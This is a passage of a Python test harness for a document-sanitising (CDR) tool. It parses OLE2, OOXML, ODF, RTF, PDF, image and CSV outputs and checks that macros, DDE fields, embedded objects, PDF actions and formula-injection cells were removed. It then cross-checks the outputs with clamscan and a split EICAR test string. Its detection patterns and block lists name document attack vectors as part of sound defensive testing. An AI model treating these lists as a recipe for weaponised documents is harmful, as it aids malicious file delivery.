        if (major, sshift) not in ((3, 9), (4, 12)):
            raise ValueError("version %d with sector shift %d" %
                             (major, sshift))
        if mshift != 6:
            raise ValueError("mini sector shift %d" % mshift)
        if data[34:40] != b"\x00" * 6:
            raise ValueError("reserved header bytes set")
        (ndir, nfat, dir1, _, cutoff, mfat1, nmfat, difat1, ndifat) = \
            struct.unpack_from("<IIIIIIIII", data, 40)
        if cutoff != 4096:
            raise ValueError("mini stream cutoff %d" % cutoff)
        if major == 3 and ndir != 0:
            raise ValueError("directory sector count set in version 3")
        self.ss = 1 << sshift
        self.nsect = (len(data) - self.ss + self.ss - 1) // self.ss
        difat = list(struct.unpack_from("<109I", data, 76))
        s, seen = difat1, 0
        while s < 0xFFFFFFFA:
            seen += 1
            if seen > ndifat or seen > self.nsect:
                raise ValueError("DIFAT chain too long")
            blk = self.sector(s)
            vals = struct.unpack("<%dI" % (self.ss // 4), blk)
            difat += vals[:-1]
            s = vals[-1]
        fat_secs = [x for x in difat if x < 0xFFFFFFFA]
        if len(fat_secs) != nfat:
            raise ValueError("%d FAT sectors listed, header says %d" %
                             (len(fat_secs), nfat))
        self.fat = []
        for x in fat_secs:
            self.fat += struct.unpack("<%dI" % (self.ss // 4), self.sector(x))
        dirdata = self.chain(dir1)
        self.entries = []
        for i in range(len(dirdata) // 128):
            e = dirdata[i * 128:(i + 1) * 128]
            nlen = struct.unpack_from("<H", e, 64)[0]
            if nlen > 64 or nlen % 2:
                raise ValueError("entry %d: name length %d" % (i, nlen))
            name = e[:max(nlen - 2, 0)].decode("utf-16-le", "replace")
            typ = e[66]
            left, right, child = struct.unpack_from("<III", e, 68)
            start = struct.unpack_from("<I", e, 116)[0]
            size = struct.unpack_from("<Q", e, 120)[0]
            if major == 3:
                size &= 0xFFFFFFFF
            self.entries.append((name, typ, left, right, child, start, size))
        if not self.entries or self.entries[0][1] != 5:
            raise ValueError("first directory entry is not the root")
        root = self.entries[0]
        self.ministream = self.chain(root[5], root[6]) if root[6] else b""
        self.minifat = []
        if nmfat:
            mf = self.chain(mfat1)
            self.minifat = list(struct.unpack("<%dI" % (len(mf) // 4), mf))
        # Paths: walk the red-black trees from the root, each entry once.
        self.paths = {}
        seen = set()
        stack = [(root[4], "")]
        while stack:
            i, parent = stack.pop()
            if i >= 0xFFFFFFFA:
                continue
            if i >= len(self.entries) or i in seen:
                raise ValueError("directory tree revisits entry %d" % i)
            seen.add(i)
            name, typ, left, right, child, _, _ = self.entries[i]
            if typ not in (1, 2):
                raise ValueError("entry %d of type %d in the tree" % (i, typ))
            path = parent + "/" + name
            self.paths[path] = i
            stack += [(left, parent), (right, parent)]
            if typ == 1:
                stack.append((child, path))

    def sector(self, s):
        off = (s + 1) * self.ss
        if s >= self.nsect or off + self.ss > len(self.d) + self.ss - 1:
            raise ValueError("sector %d outside the file" % s)
        blk = self.d[off:off + self.ss]
        return blk + b"\x00" * (self.ss - len(blk))

    def chain(self, s, size=None):
        out, seen = [], set()
        while s < 0xFFFFFFFA:
            if s in seen or s >= len(self.fat):
                raise ValueError("bad FAT chain at %d" % s)
            seen.add(s)
            out.append(self.sector(s))
            s = self.fat[s]
        b = b"".join(out)
        if size is not None:
            if size > len(b):
                raise ValueError("stream longer than its chain")
            b = b[:size]
        return b

    def stream(self, path):
        i = self.paths[path]
        _, typ, _, _, _, start, size = self.entries[i]
        if size >= 4096:
            return self.chain(start, size)
        out, s, seen = [], start, set()
        while s < 0xFFFFFFFA and len(out) * 64 < size:
            if s in seen or s >= len(self.minifat):
                raise ValueError("bad mini FAT chain")
            seen.add(s)
            out.append(self.ministream[s * 64:(s + 1) * 64])
            s = self.minifat[s]
        b = b"".join(out)
        if len(b) < size:
            raise ValueError("mini stream shorter than its entry")
        return b[:size]


def zip_members(data, depth=0):
    """(path, bytes) of every member, nested zips unpacked too."""
    out = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for n in z.namelist():
            if n.endswith("/"):
                continue
            b = z.read(n)
            out.append((n, b))
            if depth < 4 and b.startswith(b"PK\x03\x04"):
                try:
                    out += [(n + "!" + m, x) for m, x in zip_members(b, depth + 1)]
                except zipfile.BadZipFile:
                    pass
    return out


def rtf_words(data):
    """The visible words of an RTF, roughly: control words, hex escapes
    and the destination groups that hold no text are dropped."""
    out, i, depth, skip_at = [], 0, 0, None
    t = data.decode("latin-1")
    n = len(t)
    buf = []
    while i < n:
        ch = t[i]
        if ch == "{":
            depth += 1
            j = i + 1
            m = re.match(r"\\\*|\\(fonttbl|colortbl|stylesheet|info|pict|"
                         r"object|fldinst|themedata|colorschememapping|"
                         r"latentstyles|datastore|listtable|listoverridetable|"
                         r"rsidtbl|generator|xmlnstbl)\b", t[j:j + 40])
            if m and skip_at is None:
                skip_at = depth
            i += 1
        elif ch == "}":
            if skip_at == depth:
                skip_at = None
            depth -= 1
            i += 1
        elif ch == "\\":
            m = re.match(r"\\([a-zA-Z]+)(-?\d+)? ?|\\'[0-9a-fA-F]{2}|\\.",
                         t[i:i + 300], re.S)
            if m and m.group(1) in ("par", "line", "tab", "cell", "row"):
                buf.append(" ")
            i += m.end() if m else 1
        else:
            if skip_at is None and ch not in "\r\n":
                buf.append(ch)
            i += 1
    return set("".join(buf).split())


def rtf_balanced(data):
    depth, i, n = 0, 0, len(data)
    while i < n:
        c = data[i]
        if c == 0x5C:  # backslash
            m = re.match(rb"\\bin(\d+) ?", data[i:i + 20])
            if m:
                i += m.end() + int(m.group(1))
                continue
            i += 2
            continue
        if c == 0x7B:
            depth += 1
        elif c == 0x7D:
            depth -= 1
            if depth < 0:
                return False
        i += 1
    return depth == 0


# --- checks of one written file ----------------------------------------------

PDF_ACTIVE = re.compile(
    rb"/(JavaScript|JS|OpenAction|AA|Launch|EmbeddedFiles?|RichMedia\w*|"
    rb"SubmitForm|ImportData|XFA|GoToR|GoToE|Movie|Sound|Rendition|"
    rb"FileAttachment|3D)(?=[\s()<>\[\]{}/%]|$)")
WORD_FIELD_BAD = re.compile(
    r"^\s*(DDE|DDEAUTO|INCLUDETEXT|INCLUDEPICTURE|INCLUDE|IMPORT|LINK|"
    r"DATABASE)\b", re.I)
OOXML_BAD = [
    (re.compile(rb"vbaProject", re.I), "a VBA project"),
    (re.compile(rb"activeX", re.I), "ActiveX"),
    # A PowerPoint p:oleObj may stay without its r:id (cdr_ooxml.c keeps
    # its fallback picture); the reference check below sees that it points
    # at nothing.
    (re.compile(rb"oleObject", re.I), "an OLE object"),
    (re.compile(rb"altChunk|aFChunk", re.I), "an altChunk"),
    (re.compile(rb"ddeLink|ddeService", re.I), "a DDE link"),
    (re.compile(rb"DDEAUTO", re.I), "a DDEAUTO field"),
    (re.compile(rb"macrosheet|xlMacrosheet", re.I), "an XLM macro sheet"),
    (re.compile(rb"macroEnabled", re.I), "a macro-enabled content type"),
    (re.compile(rb"_xlnm\.Auto_Open|\"Auto_Open", re.I), "an Auto_Open name"),
    (re.compile(rb"ppaction://(macro|program|ole)", re.I),
     "a macro/program action"),
    (re.compile(rb"customUI", re.I), "customUI"),
]
OLE2_BAD = re.compile(
    r"/(Macros|_VBA_PROJECT_CUR|_VBA_PROJECT|VBA|PROJECT|PROJECTwm"
    r"|\x01Ole10Native|\x03OCXNAME|\x03OCXDATA|\x03ObjInfo)(/|$)"
    # Word keeps an empty ObjectPool storage in most files; what counts is
    # an object in it ([MS-DOC] 2.1.6).
    r"|^/ObjectPool/")
IMAGE_TEXT_CHUNKS = {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"tIME"}


def w_text(xml):
    root = ET.fromstring(xml)
    ts = []
    for el in root.iter():
        tag = el.tag.rsplit("}", 1)[-1]
        if tag == "t" and el.text:
            ts.append(el.text)
    return ts


def field_instructions(xml):
    """Each field's instruction in a WordprocessingML part: fldSimple's
    w:instr, and the instrText runs between a begin and its separate (or
    its end) (ECMA-376 Part 1, 17.16.18 and 17.16.19)."""
    root = ET.fromstring(xml)
    wq = "{%s}" % cm.W
    out, stack = [], []
    for el in root.iter():
        if el.tag == wq + "fldSimple":
            out.append(el.get(wq + "instr") or "")
        elif el.tag == wq + "fldChar":
            t = el.get(wq + "fldCharType")
            if t == "begin":
                stack.append([])
            elif t == "separate" and stack and stack[-1] is not None:
                out.append("".join(stack[-1]))
                stack[-1] = None
            elif t == "end" and stack:
                if stack[-1] is not None:
                    out.append("".join(stack[-1]))
                stack.pop()
        elif el.tag == wq + "instrText" and stack and stack[-1] is not None:
            stack[-1].append(el.text or "")
    return out


def check_pdf(label, path, data, src, s):
    if not have("qpdf"):
        # Without qpdf only what is not compressed can be searched.
        skip("qpdf checks (qpdf not installed: scripts/install-deps); "
             "PDF bytes searched as they are")
        left = sorted({m.group(1).decode() for m in PDF_ACTIVE.finditer(data)})
        check(not left, "%s: active PDF keys left: %s" % (label, left))
    else:
        r = run(["qpdf", "--check", path])
        check(r.returncode == 0, "%s: qpdf --check (exit %d): %s" % (
            label, r.returncode, r.stdout.decode(errors="replace")[-300:]))
        qdf = path + ".qdf"
        r = run(["qpdf", "--qdf", "--object-streams=disable", path, qdf])
        if check(r.returncode in (0, 3), "%s: qpdf --qdf" % label):
            q = open(qdf, "rb").read()
            os.unlink(qdf)
            left = sorted({m.group(1).decode() for m in PDF_ACTIVE.finditer(q)})
            check(not left, "%s: active PDF keys left after decompression: %s"
                  % (label, left))
            for m in re.finditer(rb"/URI\s*\(([^)]*)\)", q):
                check(s.links_kept and re.match(rb"(https?|mailto):", m.group(1)),
                      "%s: a link that is not http/https/mailto: %r"
                      % (label, m.group(1)))
    if have("pdftotext") and src is not None and src.startswith(b"%PDF"):
        sp = path + ".src.pdf"
        with open(sp, "wb") as f:
            f.write(src)
        before, after = pdftext(sp), pdftext(path)
        os.unlink(sp)
        check(before == after, "%s: page text changed: %r -> %r" % (
            label, before[:120], after[:120]))


def rels_of(part):
    d, base = part.rsplit("/", 1) if "/" in part else ("", part)
    return (d + "/" if d else "") + "_rels/" + base + ".rels"


def check_ooxml_refs(label, members):
    """Every r:id/r:embed/... in a kept part names a relationship of that
    part, and every internal relationship's target is in the package
    (ECMA-376 Part 2, 9.3): what was removed left no dangling pointer."""
    rq = "{%s}" % cm.R.rstrip("/")
    rq2 = "{%s}" % cm.R
    for n, b in members.items():
        if "!" in n or not n.endswith(".xml"):
            continue
        ids = set()
        rp = rels_of(n)
        if rp in members:
            d = n.rsplit("/", 1)[0] if "/" in n else ""
            for rel in ET.fromstring(members[rp]):
                ids.add(rel.get("Id"))
                if rel.get("TargetMode") == "External":
                    continue
                t = rel.get("Target", "")
                path = t.lstrip("/") if t.startswith("/") else \
                    os.path.normpath(os.path.join(d, t)).replace("\\", "/")
                check(path in members or path + "/" in members,
                      "%s: %s points at %s, not in the package" % (
                          label, rp, t))
        try:
            root = ET.fromstring(b)
        except ET.ParseError:
            continue
        for el in root.iter():
            for k, v in el.attrib.items():
                if (k.startswith(rq) or k.startswith(rq2)) and v:
                    check(v in ids, "%s: %s: %s %s=%r names no "
                          "relationship" % (label, n, el.tag.rsplit("}")[-1],
                                            k.rsplit("}")[-1], v))


def check_ooxml(label, data, src, s):
    members = dict(zip_members(data))
    for n, b in members.items():
        if "!" in n:
            continue
        if n.endswith((".xml", ".rels")):
            if not check(b"<!DOCTYPE" not in b and b"<!ENTITY" not in b,
                         "%s: %s has a DTD" % (label, n)):
                continue
            try:
                ET.fromstring(b)
            except ET.ParseError as e:
                check(False, "%s: %s does not parse: %s" % (label, n, e))
                continue
        if n.endswith(".rels"):
            for rel in ET.fromstring(b):
                if rel.get("TargetMode") == "External":
                    ok = (rel.get("Type", "").endswith("/hyperlink") and
                          s.links_kept and
                          re.match(r"(https?|mailto):", rel.get("Target", "")))
                    check(ok, "%s: %s keeps an external relationship %s -> %s"
                          % (label, n, rel.get("Type"), rel.get("Target")))
        for rx, what in OOXML_BAD:
            m = rx.search(n.encode()) or rx.search(b)
            check(m is None, "%s: %s left in %s (%r)" % (
                label, what, n, m.group(0) if m else None))
        if re.match(r"word/[^/]+\.xml$", n):
            for ins in field_instructions(b):
                check(not WORD_FIELD_BAD.match(ins),
                      "%s: %s keeps the field %r" % (label, n, ins.strip()))
    check_ooxml_refs(label, members)
    if src is None:
        return
    try:
        sm = dict(zip_members(src))
    except zipfile.BadZipFile:
        return
    for part in ("word/document.xml", "xl/sharedStrings.xml"):
        if part in sm and part in members:
            check(w_text(sm[part]) == w_text(members[part]),
                  "%s: the text of %s changed" % (label, part))
    slides = sorted(n for n in sm if re.match(r"ppt/slides/slide\d+\.xml$", n))
    for n in slides:
        check(n in members and w_text(sm[n]) == w_text(members[n]),
              "%s: the text of %s changed" % (label, n))


def check_ole2(label, data, src, s):
    try:
        o = Ole2(data)
    except (ValueError, struct.error) as e:
        check(False, "%s: not a valid compound file: %s" % (label, e))
        return
    for p in o.paths:
        check(not OLE2_BAD.search(p), "%s: OLE2 entry %r left" % (label, p))
        depth = p.count("/")
        check(not (depth > 1 and p.endswith("/\x01CompObj")),
              "%s: an embedded object's CompObj left: %r" % (label, p))
    for strm in ("/WordDocument", "/Workbook", "/Book", "/PowerPoint Document"):
        if strm in o.paths:
            b = o.stream(strm)
            check(not re.search(rb"DDEAUTO|D\x00D\x00E\x00A\x00U\x00T\x00O", b),
                  "%s: DDEAUTO in %s" % (label, strm))
    if src is None or src == data:
        return
    try:
        so = Ole2(src)
    except (ValueError, struct.error):
        return
    check(set(o.paths) <= set(so.paths),
          "%s: entries the input did not have: %s" % (
              label, sorted(set(o.paths) - set(so.paths))))
    for strm in ("/WordDocument", "/Workbook", "/Book", "/PowerPoint Document"):
        if strm in so.paths:
            check(strm in o.paths and o.stream(strm) == so.stream(strm),
                  "%s: the %s stream (the text) changed" % (label, strm[1:]))


def image_size(path):
    r = run(["vipsheader", "-f", "width", path])
    r2 = run(["vipsheader", "-f", "height", path])
    if r.returncode or r2.returncode:
        return None
    return int(r.stdout), int(r2.stdout)


def check_image(label, path, data, src, kind, s):
    if kind == "png":
        i, chunks = 8, []
        while i + 12 <= len(data):
            n = struct.unpack_from(">I", data, i)[0]
            typ = data[i + 4:i + 8]
            body = data[i + 8:i + 8 + n]
            crc = data[i + 8 + n:i + 12 + n]
            if not check(len(crc) == 4 and struct.unpack(">I", crc)[0] ==
                         zlib.crc32(typ + body), "%s: PNG chunk %r CRC" % (
                             label, typ)):
                return
            chunks.append(typ)
            i += 12 + n
            if typ == b"IEND":
                break
        check(chunks[:1] == [b"IHDR"] and chunks[-1:] == [b"IEND"],
              "%s: PNG starts with IHDR and ends with IEND" % label)
        check(i == len(data), "%s: %d bytes after IEND" % (label, len(data) - i))
        left = sorted(c.decode() for c in set(chunks) & IMAGE_TEXT_CHUNKS)
        check(not left, "%s: PNG text/metadata chunks left: %s" % (label, left))
    elif kind == "jpeg":
        check(data.endswith(b"\xff\xd9"), "%s: bytes after the JPEG EOI" % label)
        i = 2
        while i + 4 <= len(data) and data[i] == 0xFF:
            m = data[i + 1]
            if m == 0xDA:
                break
            n = struct.unpack_from(">H", data, i + 2)[0]
            seg = data[i + 4:i + 2 + n]
            check(not (m == 0xE1 and seg[:4] in (b"Exif", b"http")),
                  "%s: Exif/XMP APP1 left" % label)
            check(m != 0xFE, "%s: a JPEG comment left" % label)
            i += 2 + n
    if not have("vips"):
        skip("image decode checks (vips not installed: scripts/install-deps)")
        return
    r = run(["vips", "avg", path])
    check(r.returncode == 0, "%s: libvips cannot decode the output: %s" % (
        label, r.stderr.decode(errors="replace")[-200:]))
    if src is not None and sniff(src) in ("png", "jpeg") and kind in ("png",
                                                                       "jpeg"):
        sp = path + ".src"
        with open(sp, "wb") as f:
            f.write(src)
        before = image_size(sp)
        os.unlink(sp)
        if before is not None:
            check(before == image_size(path), "%s: image size %s -> %s" % (
                label, before, image_size(path)))


def check_rtf(label, data, src, s):
    check(rtf_balanced(data), "%s: RTF braces do not balance" % label)
    for w in (rb"\\object\b", rb"\\objdata\b", rb"\\objemb\b", rb"\\objclass\b",
              rb"\\objautlink\b", rb"\\objupdate\b", rb"\\datastore\b",
              rb"\\template\b", rb"\\ffentrymcr\b", rb"\\ffexitmcr\b",
              rb"\\bin\d"):
        check(not re.search(w, data), "%s: %s left in the RTF" % (
            label, w.decode().replace("\\\\", "\\").replace("\\b", "")))
    for m in re.finditer(rb"\\fldinst", data):
        inst = re.sub(rb"\\[a-zA-Z]+-?\d* ?|[{}]", b" ", data[m.end():m.end() + 200])
        check(not WORD_FIELD_BAD.match(inst.decode("latin-1")),
              "%s: RTF field %r left" % (label, inst[:40]))
    if src is not None and src.startswith(b"{\\rtf") and src != data:
        lost = rtf_words(src) - rtf_words(data)
        check(not lost, "%s: RTF words lost: %s" % (label, sorted(lost)[:10]))


def csv_cells(text):
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def check_text(label, name, data, src, s):
    try:
        t = data.decode("utf-8")
    except UnicodeDecodeError:
        check(False, "%s: the text output is not UTF-8" % label)
        return
    check(not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", t),
          "%s: control characters in the text output" % label)
    low = t.lower()
    check("<script" not in low and "alert(" not in low
          and "javascript:" not in low,
          "%s: script text left in the text output" % label)
    if name.lower().endswith(".csv"):
        cells = csv_cells(t.lstrip("\ufeff"))
        bad = [c for c in cells if re.match(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d"
                                            r"\uff20\t\r]", c)]
        check(not bad, "%s: CSV cells a spreadsheet reads as formulas: %s"
              % (label, bad[:5]))
        if src is not None:
            try:
                scells = csv_cells(src.decode("utf-8-sig"))
            except UnicodeDecodeError:
                scells = []
            for c, d in zip(scells, cells):
                check(d == c or d == "'" + c.lstrip() or d == "'" + c,
                      "%s: CSV cell %r became %r" % (label, c, d))
            check(len(scells) in (0, len(cells)),
                  "%s: CSV cell count %d -> %d" % (label, len(scells),
                                                   len(cells)))


def check_zip(label, path, data, src, s, d):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        check(z.testzip() is None, "%s: a zip member fails its CRC" % label)
        names = z.namelist()
        for n in names:
            check(not (n.startswith("/") or ".." in n.split("/")
                       or "\\" in n), "%s: unsafe member name %r" % (label, n))
        for i, n in enumerate(names):
            if n.endswith("/"):
                continue
            b = z.read(n)
            mp = os.path.join(d, "m%d-%s" % (i, os.path.basename(n)))
            with open(mp, "wb") as f:
                f.write(b)
            check_written("%s!%s" % (label, n), n, mp, b, None, s, d)
            os.unlink(mp)


ODF_NS = "urn:oasis:names:tc:opendocument:xmlns:"
# Members and elements (namespace, local name) a rebuilt ODF package must
# not hold, and attribute values that run something.
ODF_BAD_MEMBERS = ("Basic/", "Scripts/", "Object ", "ObjectReplacements/",
                   "Media/", "Configurations2/")
ODF_BAD_ELEMENTS = {
    ("office:1.0", "script"), ("script:1.0", "event-listener"),
    ("presentation:1.0", "event-listener"), ("text:1.0", "execute-macro"),
    ("drawing:1.0", "object"), ("drawing:1.0", "object-ole"),
    ("drawing:1.0", "applet"), ("drawing:1.0", "plugin"),
    ("drawing:1.0", "control"), ("text:1.0", "dde-connection-decls"),
    ("text:1.0", "dde-connection"), ("table:1.0", "dde-links"),
    ("table:1.0", "table-source"), ("text:1.0", "section-source")}
SCRIPT_URL = re.compile(r"\s*(vnd\.sun\.star\.script|macro|javascript|"
                        r"vbscript):", re.I)


def check_odf(label, data, src, s):
    """An ODF package as ODF 1.2 Part 3 wants it (mimetype first and
    stored, a manifest listing exactly its members) with none of the
    active members, elements or script URLs left."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        infos = z.infolist()
        check(z.testzip() is None, "%s: a zip member fails its CRC" % label)
        check(infos[0].filename == "mimetype" and
              infos[0].compress_type == zipfile.ZIP_STORED,
              "%s: mimetype is not the first member, stored" % label)
        members = {i.filename: z.read(i) for i in infos
                   if not i.filename.endswith("/")}
    for n in members:
        check(not n.startswith(ODF_BAD_MEMBERS),
              "%s: member %s left" % (label, n))
    listed = set()
    mq = "{%smanifest:1.0}" % ODF_NS
    try:
        for e in ET.fromstring(members.get("META-INF/manifest.xml", b"")):
            listed.add(e.get(mq + "full-path"))
    except ET.ParseError:
        check(False, "%s: the manifest does not parse" % label)
    if "META-INF/manifest.xml" in members:
        check(listed - {"/"} == set(members) - {
            "mimetype", "META-INF/manifest.xml"},
            "%s: the manifest does not list exactly the members" % label)
    for n, b in members.items():
        if not n.endswith(".xml"):
            continue
        if not check(b"<!DOCTYPE" not in b and b"<!ENTITY" not in b,
                     "%s: %s has a DTD" % (label, n)):
            continue
        try:
            root = ET.fromstring(b)
        except ET.ParseError as e:
            check(False, "%s: %s does not parse: %s" % (label, n, e))
            continue
        for el in root.iter():
            if el.tag.startswith("{" + ODF_NS):
                ns, local = el.tag[len(ODF_NS) + 1:].split("}", 1)
                check((ns, local) not in ODF_BAD_ELEMENTS,
                      "%s: %s holds %s:%s" % (label, n, ns, local))
            for k, v in el.attrib.items():
                check(not SCRIPT_URL.match(v), "%s: %s: %s=%r" % (
                    label, n, k, v[:60]))


def check_written(label, name, path, data, src, s, d):
    kind = sniff(data)
    if kind == "pdf":
        check_pdf(label, path, data, src, s)
    elif kind == "ooxml":
        check_ooxml(label, data, src, s)
    elif kind == "odf":
        check_odf(label, data, src, s)
    elif kind == "zip":
        check_zip(label, path, data, src, s, d)
    elif kind == "badzip":
        check(False, "%s: a zip that does not open" % label)
    elif kind == "ole2":
        check_ole2(label, data, src, s)
    elif kind in ("png", "jpeg", "tiff"):
        check_image(label, path, data, src, kind, s)
    elif kind == "rtf":
        check_rtf(label, data, src, s)
    else:
        check_text(label, name, data, src, s)


def all_text(path, data):
    """Every text a reader would see in a written file (for the texts a
    sample says must survive)."""
    kind = sniff(data)
    if kind == "pdf":
        return pdftext(path) if have("pdftotext") else None
    if kind == "ooxml":
        out = []
        for n, b in zip_members(data):
            if n.endswith(".xml"):
                try:
                    out += w_text(b)
                except ET.ParseError:
                    pass
        return " ".join(out)
    if kind == "odf":
        for n, b in zip_members(data):
            if n == "content.xml":
                return " ".join(ET.fromstring(b).itertext())
        return ""
    if kind == "rtf":
        return " ".join(sorted(rtf_words(data))) + " " + \
            data.decode("latin-1")
    if kind in ("text",):
        return data.decode("utf-8", "replace")
    return None


# --- the run ------------------------------------------------------------------

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--cli", required=True)
    ap.add_argument("--source", required=True)
    ap.add_argument("--jobs", type=int, default=2)
    ap.add_argument("--keep", help="keep the outputs in this directory")
    ap.add_argument("--only", help="run the samples whose label has this")
    a = ap.parse_args()
    t0 = time.monotonic()
    d = a.keep or tempfile.mkdtemp(prefix="mgcorpus-")
    os.makedirs(d, exist_ok=True)
    outdir = os.path.join(d, "out")
    os.makedirs(outdir, exist_ok=True)
    conf = os.path.join(d, "c.conf")
    with open(conf, "w") as f:
        f.write("[quarantine]\ndir = %s/q\n[notice]\ntemplates = %s/conf/"
                "templates\n[scan]\ndatabase = %s/corpus/signatures\n"
                % (d, a.source, a.source))
    samples = generated()
    ext = os.path.normpath(os.path.join(a.source, "..", "shared",
                                        "corpus-external"))
    if os.path.isdir(ext):
        samples += external(ext)
    else:
        skip("corpus-external: %s absent" % ext)
    if a.only:
        samples = [s for s in samples if a.only in s.label]

    def clean(i, s):
        src = os.path.join(d, "in%03d" % i)
        with open(src, "wb") as f:
            f.write(s.data)
        out = os.path.join(outdir, "%03d.out" % i)
        rep = os.path.join(d, "rep%03d.json" % i)
        t = time.monotonic()
        try:
            r = run([a.cli, "clean", "--config", conf, "--report", rep,
                     "--name", s.name, src, out], timeout=240)
            rc, err = r.returncode, r.stderr.decode(errors="replace")
        except subprocess.TimeoutExpired:
            rc, err = "timeout", ""
        dt = time.monotonic() - t
        report = None
        if os.path.exists(rep):
            try:
                report = json.load(open(rep))
            except ValueError:
                report = "bad"
        os.unlink(src)
        return i, s, rc, err, report, out, dt

    results = []
    with concurrent.futures.ThreadPoolExecutor(max_workers=a.jobs) as ex:
        for res in ex.map(lambda p: clean(*p), enumerate(samples)):
            results.append(res)
    t_clean = time.monotonic() - t0
    written, stats = [], {}
    slow = sorted(results, key=lambda r: -r[6])[:3]
    for i, s, rc, err, report, out, dt in results:
        lab = s.label
        check(rc in (0, 2), "%s: exit %s, want 0 or 2 (never a crash or a "
              "hang): %s" % (lab, rc, err.strip()[-300:]))
        check(isinstance(report, dict) or rc not in (0, 2),
              "%s: no readable report" % lab)
        if not isinstance(report, dict):
            continue
        removed = {r["id"] for r in report.get("removed", [])}
        outcome = report.get("outcome")
        stats[outcome] = stats.get(outcome, 0) + 1
        note = "%s -> %s %s %s" % (lab, outcome, report.get("module"),
                                   report.get("reason") or sorted(removed))
        if s.expect == "written":
            check(rc == 0, "%s: expected written, got exit %s (%s: %s)" % (
                lab, rc, report.get("reason"), report.get("detail")))
        elif s.expect == "refused":
            check(rc == 2, "%s: expected refused, got %s" % (lab, note))
        elif s.expect == "encrypted":
            check(rc == 2 and report.get("reason") == "encrypted",
                  "%s: expected refused as encrypted, got %s" % (lab, note))
        if rc == 2:
            check(outcome == "refused" and bool(report.get("reason"))
                  and not os.path.exists(out),
                  "%s: a refusal with a reason and nothing written" % lab)
            continue
        if rc != 0:
            continue
        check(outcome in ("rebuilt", "verified") and os.path.exists(out),
              "%s: exit 0 with an output and outcome rebuilt/verified" % lab)
        if not os.path.exists(out):
            continue
        check(s.must_remove <= removed, "%s: report lacks removals %s (has %s)"
              % (lab, sorted(s.must_remove - removed), sorted(removed)))
        if s.clean:
            check(removed <= {"metadata", "trailing_data"},
                  "%s: a clean control lost %s" % (lab, sorted(removed)))
        data = open(out, "rb").read()
        check(outcome != "verified" or data == s.data,
              "%s: verified, yet the bytes differ" % lab)
        named = os.path.join(outdir, "%03d_%s" % (i, re.sub(
            r"[^A-Za-z0-9._-]", "_", (report.get("output") or {}).get(
                "name") or "out")))
        os.rename(out, named)
        written.append(named)
        work = os.path.join(d, "w%03d" % i)
        os.makedirs(work, exist_ok=True)
        check_written(lab, (report.get("output") or {}).get("name") or s.name,
                      named, data, s.data, s, work)
        # The checks must be able to fail: on the hostile input itself
        # they find what the rebuild removed.
        if s.must_remove - {"metadata"}:
            os.makedirs(work, exist_ok=True)
            ip = os.path.join(work, "input")
            with open(ip, "wb") as f:
                f.write(s.data)
            n0, p0 = len(FAILS), PASSES[0]
            QUIET[0] = True
            try:
                check_written(lab + " [input]", s.name, ip, s.data, None, s,
                              work)
            finally:
                QUIET[0] = False
            caught = len(FAILS) - n0
            PASSES[0] = p0
            del FAILS[n0:]
            check(caught > 0, "%s: the checks find nothing in the hostile "
                  "input (they could not fail)" % lab)
        shutil.rmtree(work, ignore_errors=True)
        if s.texts:
            text = all_text(named, data)
            if text is None:
                skip("text checks of %s" % sniff(data))
            else:
                for t in s.texts:
                    check(t in text, "%s: the text %r did not survive" % (lab, t))

    # Independent double check: clamscan with the test signatures over
    # every written output; an EICAR control (written in two halves so no
    # source file holds it) in the same run must be found.
    if not have("clamscan"):
        skip("double check (clamscan not installed: scripts/install-deps)")
    else:
        ctl = os.path.join(d, "control")
        os.makedirs(ctl, exist_ok=True)
        with open(os.path.join(ctl, "eicar.txt"), "wb") as f:
            f.write(eicar())
        with open(os.path.join(ctl, "eicar.zip"), "wb") as f:
            f.write(zip_of([("a/eicar.com", eicar())]))
        r = run(["clamscan", "--no-summary", "-r", "-d",
                 os.path.join(a.source, "corpus", "signatures"), outdir, ctl],
                timeout=300)
        found = [ln for ln in r.stdout.decode(errors="replace").splitlines()
                 if ln.endswith(" FOUND")]
        hits = [ln for ln in found if not ln.startswith(ctl)]
        ctl_hits = [ln for ln in found if ln.startswith(ctl)]
        check(not hits, "clamscan: test-signature hits in written outputs: %s"
              % hits)
        check(len(ctl_hits) == 2 and r.returncode == 1,
              "clamscan: the EICAR controls are found (exit %d): %s"
              % (r.returncode, ctl_hits))
        print("clamscan: %d written outputs scanned, %d hits, controls %d/2"
              % (len(written), len(hits), len(ctl_hits)))

    if not a.keep:
        shutil.rmtree(d, ignore_errors=True)
    print("samples: %d, outcomes: %s; clean runs %.1f s, total %.1f s; "
          "slowest: %s" % (len(samples), stats, t_clean,
                           time.monotonic() - t0,
                           ", ".join("%s %.1fs" % (r[1].label, r[6])
                                     for r in slow)))
    print("cdr_corpus: %d passed, %d failed, %d skipped"
          % (PASSES[0], len(FAILS), len(SKIPS)))
    return 1 if FAILS else 0


def eicar():
    # Built from halves so this file never holds the test string whole.
    return (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" +
            b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")


if __name__ == "__main__":
    sys.exit(main())
